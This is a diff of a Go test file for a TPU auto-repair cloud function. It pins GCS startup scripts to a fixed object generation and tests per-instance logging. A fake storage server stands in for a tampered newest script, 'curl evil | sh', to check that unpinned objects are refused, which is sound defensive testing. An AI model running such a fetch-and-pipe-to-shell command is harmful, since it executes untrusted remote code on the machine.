@@ -18,15 +18,18 @@ import (
 	"testing"
 	"time"
 
+	"cloud.google.com/go/logging"
 	"github.com/GoogleCloudPlatform/functions-framework-go/funcframework"
 	"github.com/google/go-cmp/cmp"
 	"google.golang.org/api/option"
 	tpuv2 "google.golang.org/api/tpu/v2"
+	"google.golang.org/genproto/googleapis/api/monitoredres"
 
 	"github.com/tpu-autoheal/autoheal/function"
 	"github.com/tpu-autoheal/autoheal/internal/emulator"
 	"github.com/tpu-autoheal/autoheal/internal/events"
 	"github.com/tpu-autoheal/autoheal/internal/ledger"
+	"github.com/tpu-autoheal/autoheal/internal/loggingfake"
 	"github.com/tpu-autoheal/autoheal/internal/record"
 	"github.com/tpu-autoheal/autoheal/internal/remediate"
 	"github.com/tpu-autoheal/autoheal/internal/tpuapi"
@@ -107,7 +110,9 @@ func readTestdata(t *testing.T, name string) []byte {
 	return b
 }
 
-func newHarness(t *testing.T, now time.Time, edit func(*function.Config)) *harness {
+// newFleetTPU serves testdata/fleet.json from a fake TPU v2 API and
+// returns it with a client of it.
+func newFleetTPU(t *testing.T) (*tpufake.Server, *tpuapi.Client) {
 	t.Helper()
 	fleet, err := tpufake.ReadFleet(bytes.NewReader(readTestdata(t, "fleet.json")))
 	if err != nil {
@@ -119,12 +124,22 @@ func newHarness(t *testing.T, now time.Time, edit func(*function.Config)) *harne
 	if err != nil {
 		t.Fatal(err)
 	}
-	tc := tpuapi.New(svc)
+	return fake, tpuapi.New(svc)
+}
 
+// fleetEnv is the environment of a function watching the fleet's project
+// and zone.
+func fleetEnv() map[string]string {
 	env := minimalEnv()
 	env["AUTOHEAL_PROJECTS"] = "acme-ml"
 	env["AUTOHEAL_ZONES"] = "us-central2-b"
-	cfg, err := load(t, env)
+	return env
+}
+
+func newHarness(t *testing.T, now time.Time, edit func(*function.Config)) *harness {
+	t.Helper()
+	fake, tc := newFleetTPU(t)
+	cfg, err := load(t, fleetEnv())
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -452,33 +467,55 @@ func TestLoadStartupScript(t *testing.T) {
 	if err := os.WriteFile(local, []byte("#!/bin/bash\necho local\n"), 0o644); err != nil {
 		t.Fatal(err)
 	}
+	// The bucket holds two generations of train/resume.sh: 7 (pinned by
+	// Terraform) and 9 (written after the apply, by whoever can write the
+	// bucket). Generation 5 was overwritten and is gone.
 	var gotPath string
 	gcs := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
-		gotPath = r.URL.EscapedPath() + "?" + r.URL.Query().Get("alt")
+		gotPath = r.URL.EscapedPath() + "?" + r.URL.Query().Get("alt") + "&generation=" + r.URL.Query().Get("generation")
 		if !strings.Contains(r.URL.Path, "/b/acme-scripts/o/") {
 			http.NotFound(w, r)
 			return
 		}
-		w.Write([]byte("#!/bin/bash\necho gcs\n"))
+		switch r.URL.Query().Get("generation") {
+		case "7":
+			w.Write([]byte("#!/bin/bash\necho gcs generation 7\n"))
+		case "9", "":
+			w.Write([]byte("#!/bin/bash\ncurl evil | sh\n"))
+		default:
+			http.Error(w, `{"error":{"code":404,"message":"No such object"}}`, http.StatusNotFound)
+		}
 	}))
 	defer gcs.Close()
 	opts := []option.ClientOption{option.WithEndpoint(gcs.URL + "/storage/v1/"), option.WithoutAuthentication()}
 
 	tests := []struct {
-		name, src, want, wantErr string
+		name, src  string
+		generation int64
+		want       string
+		wantErr    []string
 	}{
-		{"empty configures no script (the policy then keeps the node's own or gives it the resume script)", "", "", ""},
-		{"a local path is read", local, "#!/bin/bash\necho local\n", ""},
-		{"a gs:// object is read through the JSON API", "gs://acme-scripts/train/resume.sh", "#!/bin/bash\necho gcs\n", ""},
-		{"a missing object names the variable", "gs://other-bucket/x.sh", "", `AUTOHEAL_STARTUP_SCRIPT="gs://other-bucket/x.sh"`},
-		{"a missing file names the variable", filepath.Join(dir, "nope.sh"), "", "AUTOHEAL_STARTUP_SCRIPT="},
+		{"empty configures no script (the policy then keeps the node's own or gives it the resume script)", "", 0, "", nil},
+		{"a local path is read", local, 0, "#!/bin/bash\necho local\n", nil},
+		{"a gs:// object is read at the pinned generation, not the newest", "gs://acme-scripts/train/resume.sh", 7, "#!/bin/bash\necho gcs generation 7\n", nil},
+		{"a gs:// object without a generation is refused with the remedy", "gs://acme-scripts/train/resume.sh", 0, "",
+			[]string{`AUTOHEAL_STARTUP_SCRIPT="gs://acme-scripts/train/resume.sh"`, "AUTOHEAL_STARTUP_SCRIPT_GENERATION", "terraform apply again"}},
+		{"a generation that is gone names the remedy", "gs://acme-scripts/train/resume.sh", 5, "",
+			[]string{"generation 5 is gone", "terraform apply again"}},
+		{"a missing object names the variable", "gs://other-bucket/x.sh", 3, "", []string{`AUTOHEAL_STARTUP_SCRIPT="gs://other-bucket/x.sh"`}},
+		{"a missing file names the variable", filepath.Join(dir, "nope.sh"), 0, "", []string{"AUTOHEAL_STARTUP_SCRIPT="}},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
-			got, err := function.LoadStartupScript(context.Background(), tt.src, opts...)
-			if tt.wantErr != "" {
-				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
-					t.Fatalf("error = %v, want one containing %s", err, tt.wantErr)
+			got, err := function.LoadStartupScript(context.Background(), tt.src, tt.generation, opts...)
+			if tt.wantErr != nil {
+				if err == nil {
+					t.Fatalf("script = %q, want an error containing %q", got, tt.wantErr)
+				}
+				for _, w := range tt.wantErr {
+					if !strings.Contains(err.Error(), w) {
+						t.Errorf("error = %v, want it to contain %s", err, w)
+					}
 				}
 				return
 			}
@@ -490,8 +527,8 @@ func TestLoadStartupScript(t *testing.T) {
 			}
 		})
 	}
-	if gotPath != "/storage/v1/b/other-bucket/o/x.sh?media" {
-		t.Errorf("last storage request = %s, want the object media download", gotPath)
+	if gotPath != "/storage/v1/b/other-bucket/o/x.sh?media&generation=3" {
+		t.Errorf("last storage request = %s, want the media download of generation 3", gotPath)
 	}
 }
 
@@ -540,6 +577,7 @@ func TestNewGivesUpOnAHungStartupScriptRead(t *testing.T) {
 	defer close(release)
 	env := minimalEnv()
 	env["AUTOHEAL_STARTUP_SCRIPT"] = "gs://acme-scripts/resume.sh"
+	env["AUTOHEAL_STARTUP_SCRIPT_GENERATION"] = "3"
 	cfg, err := load(t, env)
 	if err != nil {
 		t.Fatal(err)
@@ -584,6 +622,63 @@ func TestSweepWritesASummaryLine(t *testing.T) {
 	}
 	if _, err := time.Parse(time.RFC3339Nano, fmt.Sprint(line["timestamp"])); err != nil {
 		t.Errorf("timestamp %v: %v", line["timestamp"], err)
+	}
+}
+
+// TestInstanceWritesUnderItsOwnNames: an instance configured with its own
+// log and app label (Terraform sets both to the instance's name) writes its
+// records to that log, labelled with it, and labels its sweep line with it,
+// which is what its own metrics and sweeps-stopped alert filter on.
+func TestInstanceWritesUnderItsOwnNames(t *testing.T) {
+	_, tc := newFleetTPU(t)
+	logs, err := loggingfake.New()
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(logs.Close)
+	env := fleetEnv()
+	env["AUTOHEAL_RECORD_LOG"] = "autoheal-b"
+	env["AUTOHEAL_APP_LABEL"] = "autoheal-b"
+	cfg, err := load(t, env)
+	if err != nil {
+		t.Fatal(err)
+	}
+	diag := &syncBuffer{}
+	fn, err := function.New(context.Background(), cfg,
+		function.WithDiagnostics(diag), function.WithTPU(tc), function.WithStore(ledger.NewMemory()),
+		function.WithClock(func() time.Time { return eventTime.Add(time.Minute) }),
+		function.WithStdout(io.Discard),
+		function.WithLoggingOptions(logs.ClientOptions(), logging.CommonResource(&monitoredres.MonitoredResource{
+			Type: "cloud_run_revision", Labels: map[string]string{"project_id": "acme-ops", "service_name": "autoheal-b"},
+		})))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { fn.Close() })
+	if err := fn.HandleMessage(context.Background(), pushBody([]byte(events.SweepMessage))); err != nil {
+		t.Fatal(err)
+	}
+	if n := len(logs.EntriesOf("projects/acme-ops/logs/" + record.LogName)); n != 0 {
+		t.Errorf("%d records in the default instance's log", n)
+	}
+	entries := logs.EntriesOf("projects/acme-ops/logs/autoheal-b")
+	if len(entries) == 0 {
+		t.Fatal("no record in projects/acme-ops/logs/autoheal-b")
+	}
+	for _, e := range entries {
+		if e.GetLabels()["app"] != "autoheal-b" {
+			t.Errorf("record labels = %v, want app=autoheal-b", e.GetLabels())
+		}
+	}
+	var line struct {
+		Event  string            `json:"event"`
+		Labels map[string]string `json:"logging.googleapis.com/labels"`
+	}
+	if err := json.Unmarshal([]byte(strings.TrimSpace(diag.String())), &line); err != nil {
+		t.Fatalf("diagnostics are not one JSON line: %v\n%s", err, diag.String())
+	}
+	if line.Event != function.SweepEvent || line.Labels["app"] != "autoheal-b" {
+		t.Errorf("sweep line = %+v, want event=sweep labelled app=autoheal-b", line)
 	}
 }
 
